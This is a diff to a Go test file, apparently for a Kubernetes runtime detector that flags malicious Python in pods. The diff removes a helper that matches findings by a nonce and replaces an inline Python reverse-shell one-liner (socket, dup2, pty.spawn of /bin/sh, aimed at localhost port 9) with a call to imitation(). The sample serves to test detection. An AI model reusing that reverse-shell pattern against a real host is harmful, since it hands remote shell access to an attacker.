@@ -136,26 +136,6 @@ func TestPodsOfARealClusterAreNamed(t *testing.T) {
 	}
 }
 
-// byLastLine returns the findings about scripts that end in the comment nonce and
-// a name, by that name.
-func (in *instance) byLastLine(t *testing.T, nonce string) map[string]finding.Finding {
-	t.Helper()
-	all, err := in.findings(t.Context())
-	if err != nil {
-		t.Fatal(err)
-	}
-	found := make(map[string]finding.Finding)
-	for _, f := range all {
-		if len(f.Process.Args) == 0 || f.Category != finding.MaliciousPython {
-			continue
-		}
-		if _, name, ok := strings.Cut(f.Process.Args[len(f.Process.Args)-1], "# "+nonce); ok {
-			found[name] = f
-		}
-	}
-	return found
-}
-
 // where is where the API says that a script ran.
 func (c *cluster) where(t *testing.T, namespace string, r ran) finding.Workload {
 	t.Helper()
@@ -262,10 +242,8 @@ func (c *cluster) runPods(t *testing.T, namespace, nonce string) []ran {
 // container is a container whose Python runs a script that ends in a comment by
 // which it is known, for some 50 ms; then it runs a command of the shell.
 func (c *cluster) container(nonce, app, name, then string) object {
-	script := `import socket,os,pty;s=socket.socket();s.settimeout(0.02);s.connect(("127.0.0.1",9));` +
-		`os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh") # ` + nonce + app + "/" + name
 	return object{
-		"name": name, "image": c.image, "imagePullPolicy": "Never", "command": []string{"sh", "-c", `python3 -c "$0"; exec $1`, script, then},
+		"name": name, "image": c.image, "imagePullPolicy": "Never", "command": []string{"sh", "-c", `python3 -c "$0"; exec $1`, imitation(nonce + app + "/" + name), then},
 	}
 }
 
